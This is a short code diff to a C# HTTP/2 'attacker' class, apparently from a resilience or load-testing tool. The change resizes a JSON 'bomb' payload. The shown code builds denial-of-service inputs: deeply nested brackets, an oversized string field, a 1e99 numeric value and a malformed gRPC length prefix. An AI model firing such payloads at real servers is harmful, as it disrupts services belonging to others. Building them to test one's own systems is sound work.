@@ -26,6 +26,9 @@ internal sealed class Http2Attacker(AttackOrder order, AttackKind kind, IPAddres
 
     private const int BombBytes = 64 << 20;
 
+    // A stream's window takes it: the next one is begun whatever became of it.
+    private const int TextBytes = 240 << 10;
+
     private byte[] _hello = [];
     private byte[] _head = [];
     private byte[][] _bodies = [];
@@ -54,7 +57,7 @@ internal sealed class Http2Attacker(AttackOrder order, AttackKind kind, IPAddres
         {
             AttackKind.Readers => [isGrpc ? Message(largest.ToByteArray(), false) : Encoding.ASCII.GetBytes(JsonFormatter.Default.Format(largest))],
             AttackKind.Bombs when isGrpc => [Message(Packed(), true), [1, 0x7f, 0xff, 0xff, 0xff, .. new byte[64]]],
-            AttackKind.Bombs => [[.. Enumerable.Repeat((byte)'[', 64 << 10)], [.. "{\"payload\":\""u8, .. Enumerable.Repeat((byte)'A', 512 << 10), .. "\",\"replyCount\":1e99}"u8]],
+            AttackKind.Bombs => [[.. Enumerable.Repeat((byte)'[', 64 << 10)], [.. "{\"payload\":\""u8, .. Enumerable.Repeat((byte)'A', TextBytes), .. "\",\"replyCount\":1e99}"u8]],
             _ => [],
         };
         if (Kind == AttackKind.Handshakes)
